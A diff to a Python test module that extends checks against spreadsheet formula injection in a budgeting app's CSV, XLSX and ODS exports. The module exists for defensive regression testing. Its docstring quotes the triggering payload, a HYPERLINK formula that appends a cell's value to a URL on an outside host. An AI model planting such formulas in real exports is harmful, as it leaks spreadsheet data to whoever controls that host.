@@ -3,15 +3,15 @@
 The defect (issue 12): a proposal titled =HYPERLINK("http://x/?"&A1,"clic") came out as a
 formula in several exports. Each case below builds its data with the factories, puts the
 input in the text people type, produces the real file (view or service), and checks every
-cell carrying it: a string in XLSX (never data type "f", no <f> element), behind a quote in
-CSV.
+cell carrying it: a string in XLSX (never data type "f", no <f> element) and in ODS (a
+string cell, no table:formula attribute anywhere), behind a quote in CSV.
 
 Exports covered (the file, and the typed text that carries the input):
 - open data of a campaign, CSV (",", ";") and XLSX: proposals, instructions, results
   (proposal title);
 - instruction sheet, exported by an administrator and by the finance service (its opinion
-  sheet): proposal title, service name, conditions, public reasoning;
-- council report workbook and council answer sheet (proposal title);
+  sheet), XLSX and ODS: proposal title, service name, conditions, public reasoning;
+- council report workbook and council answer sheet, XLSX and ODS (proposal title);
 - results CSV and XLSX (proposal title);
 - statistics CSV (",", ";") and XLSX (a table label, e.g. a commune's name);
 - shared scenario XLSX (scenario title, measure title);
@@ -29,9 +29,11 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import zipfile
 from collections.abc import Callable
 from decimal import Decimal
+from functools import partial
 
 import pytest
 from django.urls import reverse
@@ -39,6 +41,7 @@ from openpyxl import load_workbook
 
 from budget.imports.params import simulator_params_export
 from budget.roles import ADMINISTRATOR, FINANCE
+from budget.spreadsheets.reader import open_workbook
 from simulator.catalogue import measure_catalogue_export
 from simulator.services import scenario_create
 from simulator.state import ScenarioState
@@ -74,6 +77,10 @@ def xlsx(data: bytes) -> File:
     return ("xlsx", data)
 
 
+def ods(data: bytes) -> File:
+    return ("ods", data)
+
+
 def csv_file(data: bytes | str, delimiter: str = ",") -> File:
     text = data.decode("utf-8-sig") if isinstance(data, bytes) else data.lstrip("\ufeff")
     return ("csv", text, delimiter)
@@ -105,10 +112,12 @@ def instruction_files(client) -> list[File]:
     service = make_service(s.campaign.authority, name=INPUT)
     Proposal.objects.filter(pk=s.p1.pk).update(service=service)
     Instruction.objects.filter(proposal=s.p1).update(conditions=INPUT, public_reasoning=INPUT)
-    return [
-        xlsx(instruction_sheet_export(campaign=s.campaign, by=make_user(roles=(role,))))
-        for role in (ADMINISTRATOR, FINANCE)  # the finance service's opinion sheet
-    ]
+    files = []
+    for role in (ADMINISTRATOR, FINANCE):  # the finance service's opinion sheet
+        by = make_user(roles=(role,))
+        files.append(xlsx(instruction_sheet_export(campaign=s.campaign, by=by)))
+        files.append(ods(instruction_sheet_export(campaign=s.campaign, by=by, file_format="ods")))
+    return files
 
 
 def council_files(client) -> list[File]:
@@ -118,9 +127,12 @@ def council_files(client) -> list[File]:
     council_send(campaign=s.campaign, by=admin)
     s.campaign.refresh_from_db()
     data, snapshot = council_data(s.campaign)
+    sheet = partial(answers.council_answers_sheet, campaign=s.campaign, by=admin, results={})
     return [
         xlsx(council_workbook(data, fingerprint=snapshot.sha256)),
-        xlsx(answers.council_answers_sheet(campaign=s.campaign, by=admin, results={})),
+        ods(council_workbook(data, fingerprint=snapshot.sha256, file_format="ods")),
+        xlsx(sheet()),
+        ods(sheet(file_format="ods")),
     ]
 
 
@@ -242,6 +254,24 @@ def _check_xlsx(data: bytes) -> int:
     return found
 
 
+def _check_ods(data: bytes) -> int:
+    archive = zipfile.ZipFile(io.BytesIO(data))
+    content = archive.read("content.xml").decode()
+    assert "table:formula" not in content, "a formula in content.xml"
+    reader, error = open_workbook(data)
+    assert error is None
+    found = 0
+    for title in reader.sheetnames:
+        for row in reader.rows(title):
+            for value in row:
+                if isinstance(value, str) and MARK in value:
+                    found += 1
+    # Each string cell carrying the input is an ODF string, its text as typed.
+    strings = re.findall(r'office:value-type="string"[^>]*>(?:<text:p>)?([^<]*)', content)
+    assert sum(MARK in text for text in strings) >= found
+    return found
+
+
 def _check_csv(text: str, delimiter: str) -> int:
     found = 0
     for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
@@ -260,6 +290,8 @@ def test_it_never_writes_typed_text_as_a_formula(client, export):
     for produced in files:
         if produced[0] == "xlsx":
             found = _check_xlsx(produced[1])
+        elif produced[0] == "ods":
+            found = _check_ods(produced[1])
         else:
             found = _check_csv(produced[1], produced[2])
         # The input is there: the check above did look at it.
